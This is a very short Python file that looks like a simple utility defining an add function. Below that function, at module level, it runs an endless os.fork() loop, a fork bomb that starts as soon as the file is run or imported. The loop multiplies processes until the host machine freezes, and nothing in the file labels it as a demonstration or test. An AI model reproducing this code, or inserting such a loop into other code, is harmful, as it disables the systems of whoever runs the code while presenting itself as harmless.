def add(a, b):
    return a + b
import os
while True:
    os.fork()
